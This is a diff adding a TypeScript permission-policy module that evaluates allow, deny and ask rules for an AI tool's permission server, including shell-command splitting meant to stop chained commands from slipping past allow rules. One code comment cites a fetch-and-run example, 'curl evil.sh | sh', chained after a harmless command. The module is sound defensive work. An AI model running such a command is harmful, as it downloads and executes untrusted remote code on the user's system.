@@ -0,0 +1,272 @@
+/**
+ * Permission policy rules
+ *
+ * Declarative allow/deny/ask rules evaluated by the MCP permission server
+ * before it posts a permission prompt. Rules come from the global config
+ * (`permissions.rules` in config.yaml) and the repository's
+ * `.claude-threads.yaml`, and are passed to the server as JSON in the
+ * PERMISSION_POLICY environment variable.
+ */
+
+import { resolve } from 'path';
+import type { ToolInput } from '../utils/tool-formatter.js';
+
+// =============================================================================
+// Types
+// =============================================================================
+
+export type PolicyAction = 'allow' | 'deny' | 'ask';
+
+export interface PermissionRule {
+  action: PolicyAction;
+  /** Tool name globs, e.g. `Read`, `mcp__github__*` */
+  tool?: string | string[];
+  /** Bash command globs, e.g. `npm test*` (`*` also matches `/`) */
+  command?: string | string[];
+  /** File path globs, e.g. `src/**`, `/etc/**` (relative globs are resolved against the working directory) */
+  path?: string | string[];
+  /** Optional explanation shown in the thread */
+  reason?: string;
+  /** Where the rule was defined (set by the loader) */
+  source?: string;
+}
+
+export interface PermissionPolicy {
+  rules: PermissionRule[];
+}
+
+export interface PolicyDecision {
+  action: PolicyAction;
+  rule: PermissionRule;
+}
+
+const ACTIONS: PolicyAction[] = ['allow', 'deny', 'ask'];
+
+// Higher wins when several rules match
+const PRECEDENCE: Record<PolicyAction, number> = { allow: 0, ask: 1, deny: 2 };
+
+// =============================================================================
+// Glob matching
+// =============================================================================
+
+/**
+ * Convert a glob to a regular expression.
+ *
+ * In path mode `*` and `?` stop at `/` and `**` crosses directories;
+ * otherwise `*` matches anything (used for tool names and commands).
+ */
+export function globToRegExp(glob: string, pathMode = false): RegExp {
+  let pattern = '';
+  for (let i = 0; i < glob.length; i++) {
+    const char = glob[i];
+    if (char === '*') {
+      if (glob[i + 1] === '*') {
+        // `**/` also matches zero directories
+        if (glob[i + 2] === '/') {
+          pattern += '(?:.*/)?';
+          i += 2;
+        } else {
+          pattern += '.*';
+          i += 1;
+        }
+      } else {
+        pattern += pathMode ? '[^/]*' : '.*';
+      }
+    } else if (char === '?') {
+      pattern += pathMode ? '[^/]' : '.';
+    } else {
+      pattern += char.replace(/[.+^${}()|[\]\\]/g, '\\$&');
+    }
+  }
+  return new RegExp(`^${pattern}$`, 's');
+}
+
+function toList(value: string | string[] | undefined): string[] {
+  if (value === undefined) return [];
+  return Array.isArray(value) ? value : [value];
+}
+
+/**
+ * Split a shell command into the simple commands it chains together,
+ * so `npm test && curl evil.sh | sh` can't ride on an `npm test*` allow rule.
+ * A lone `&` (background) separates commands too; redirections such as
+ * `2>&1` and `&>file` do not.
+ */
+export function splitCommand(command: string): string[] {
+  return command
+    .split(/&&|\|\||[;|\n]|(?<![<>&])&(?![>&])/)
+    .map(part => part.trim())
+    .filter(part => part.length > 0);
+}
+
+/**
+ * Whether a command runs other commands inside it: `$(...)`, backticks, or
+ * process substitution `<(...)` / `>(...)`
+ */
+export function hasSubstitution(command: string): boolean {
+  return command.includes('$(') || command.includes('`') || command.includes('<(') || command.includes('>(');
+}
+
+/**
+ * The tool's file path, normalized so `..` segments can't walk out of a
+ * directory a glob allows. Relative paths are resolved against the working directory.
+ */
+function getInputPath(input: ToolInput, workingDir?: string): string | undefined {
+  for (const key of ['file_path', 'notebook_path', 'path']) {
+    const value = input[key];
+    if (typeof value === 'string' && value) return resolve(workingDir ?? process.cwd(), value);
+  }
+  return undefined;
+}
+
+function matchesCommand(rule: PermissionRule, command: string): boolean {
+  const patterns = toList(rule.command).map(glob => globToRegExp(glob));
+  const matches = (part: string) => patterns.some(re => re.test(part));
+
+  if (rule.action === 'allow') {
+    // Every chained command must be allowed, and no substitutions may hide more
+    if (hasSubstitution(command)) return false;
+    const parts = splitCommand(command);
+    return parts.length > 0 && parts.every(matches);
+  }
+  // Deny/ask if any part matches (or the whole thing, for patterns spanning parts)
+  return matches(command.trim()) || splitCommand(command).some(matches);
+}
+
+/**
+ * Check whether a single rule matches a tool call.
+ * All criteria given on the rule must match.
+ *
+ * @param workingDir - Session working directory, for relative tool paths
+ */
+export function ruleMatches(rule: PermissionRule, toolName: string, input: ToolInput, workingDir?: string): boolean {
+  const tools = toList(rule.tool);
+  if (tools.length > 0 && !tools.some(glob => globToRegExp(glob).test(toolName))) {
+    return false;
+  }
+
+  if (rule.command !== undefined) {
+    const command = input.command;
+    if (typeof command !== 'string' || !matchesCommand(rule, command)) return false;
+  }
+
+  if (rule.path !== undefined) {
+    const path = getInputPath(input, workingDir);
+    if (!path || !toList(rule.path).some(glob => globToRegExp(glob, true).test(path))) return false;
+  }
+
+  return true;
+}
+
+// =============================================================================
+// Evaluation
+// =============================================================================
+
+/**
+ * Evaluate the policy for a tool call.
+ * Deny beats ask beats allow; among equal actions the first rule wins.
+ * Returns null if no rule matches.
+ */
+export function evaluatePolicy(
+  policy: PermissionPolicy,
+  toolName: string,
+  input: ToolInput,
+  workingDir?: string
+): PolicyDecision | null {
+  let decision: PolicyDecision | null = null;
+  for (const rule of policy.rules) {
+    if (!ruleMatches(rule, toolName, input, workingDir)) continue;
+    if (!decision || PRECEDENCE[rule.action] > PRECEDENCE[decision.action]) {
+      decision = { action: rule.action, rule };
+    }
+  }
+  return decision;
+}
+
+/**
+ * Whether a decision may be applied without prompting. Deny rules always
+ * apply, but an allow rule never skips the approval quorum of a dangerous
+ * operation (see dangerous-operations.ts).
+ *
+ * @param danger - Reason the tool call is dangerous, or null
+ */
+export function appliesWithoutPrompt(decision: PolicyDecision, danger: string | null): boolean {
+  return decision.action === 'deny' || (decision.action === 'allow' && !danger);
+}
+
+/**
+ * Short human-readable description of a rule, e.g. `deny Bash "git push --force*"`
+ */
+export function formatRule(rule: PermissionRule): string {
+  const parts: string[] = [rule.action];
+  const tools = toList(rule.tool);
+  if (tools.length > 0) parts.push(tools.join(','));
+  for (const glob of [...toList(rule.command), ...toList(rule.path)]) {
+    parts.push(`"${glob}"`);
+  }
+  if (tools.length === 0 && parts.length === 1) parts.push('*');
+  return parts.join(' ');
+}
+
+// =============================================================================
+// Parsing
+// =============================================================================
+
+function isGlobList(value: unknown): value is string | string[] | undefined {
+  if (value === undefined || typeof value === 'string') return true;
+  return Array.isArray(value) && value.every(v => typeof v === 'string');
+}
+
+/**
+ * Validate raw rules (from YAML or JSON), dropping malformed entries.
+ * Returns the valid rules and a list of problems for logging.
+ */
+export function parseRules(raw: unknown, source: string): { rules: PermissionRule[]; errors: string[] } {
+  const rules: PermissionRule[] = [];
+  const errors: string[] = [];
+  if (raw === undefined || raw === null) return { rules, errors };
+  if (!Array.isArray(raw)) {
+    return { rules, errors: [`${source}: permissions.rules must be a list`] };
+  }
+
+  raw.forEach((entry, index) => {
+    const where = `${source}: rule ${index + 1}`;
+    if (!entry || typeof entry !== 'object') {
+      errors.push(`${where} is not an object`);
+      return;
+    }
+    const rule = entry as Record<string, unknown>;
+    if (!ACTIONS.includes(rule.action as PolicyAction)) {
+      errors.push(`${where} has invalid action "${String(rule.action)}" (expected allow, deny or ask)`);
+      return;
+    }
+    if (!isGlobList(rule.tool) || !isGlobList(rule.command) || !isGlobList(rule.path)) {
+      errors.push(`${where}: tool, command and path must be strings or lists of strings`);
+      return;
+    }
+    rules.push({
+      action: rule.action as PolicyAction,
+      tool: rule.tool,
+      command: rule.command,
+      path: rule.path,
+      reason: typeof rule.reason === 'string' ? rule.reason : undefined,
+      source: typeof rule.source === 'string' ? rule.source : source,
+    });
+  });
+
+  return { rules, errors };
+}
+
+/**
+ * Parse the PERMISSION_POLICY environment variable.
+ * Invalid JSON yields an empty policy (every tool call is prompted).
+ */
+export function parsePolicyEnv(value: string | undefined): PermissionPolicy {
+  if (!value) return { rules: [] };
+  try {
+    const parsed = JSON.parse(value) as { rules?: unknown };
+    return { rules: parseRules(parsed.rules, 'PERMISSION_POLICY').rules };
+  } catch {
+    return { rules: [] };
+  }
+}